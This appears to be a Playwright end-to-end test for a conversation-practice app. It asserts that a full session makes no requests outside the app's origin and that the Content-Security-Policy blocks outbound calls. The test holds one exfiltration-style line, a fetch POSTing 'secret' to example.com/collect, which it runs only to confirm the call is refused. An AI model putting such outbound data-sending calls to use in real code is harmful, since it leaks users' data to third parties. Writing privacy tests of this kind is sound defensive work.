/**
 * Privacy: every request the page makes during a whole practice run stays on the app's own
 * origin. (Every other test checks the same in its fixture; this one also proves the recorder
 * sees requests at all, and that the page cannot reach out even if it tries.)
 */
import { test, expect, isOwn } from './support/fixtures';

// The page's own attempt to phone out is refused by the CSP, which says so on the console.
test.use({ expectedConsoleErrors: [/example\.com\/collect/] });

test('a whole run, every screen included, makes no request outside the app origin', async ({ app, page, host, requests }) => {
  await app.startScenario('grief-birthday');
  await app.typeReply("I'm so sorry. Today must be so hard without him. What are you remembering most?");
  await app.next();
  for (const name of ['Review', 'Progress', 'Settings', 'Practice'] as const) await app.nav(name);
  await page.getByRole('button', { name: 'End session' }).first().click();
  await expect(page.getByTestId('ending')).toBeVisible();

  // The page tries to phone out; the Content-Security-Policy stops it before any request is made.
  const attempt = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(attempt).toBe('blocked');

  expect(requests.length).toBeGreaterThan(5);
  expect(requests.some((url) => url.includes('/api/practice:reply'))).toBe(true);
  expect(requests.filter((url) => !isOwn(url, host.origin))).toEqual([]);
});
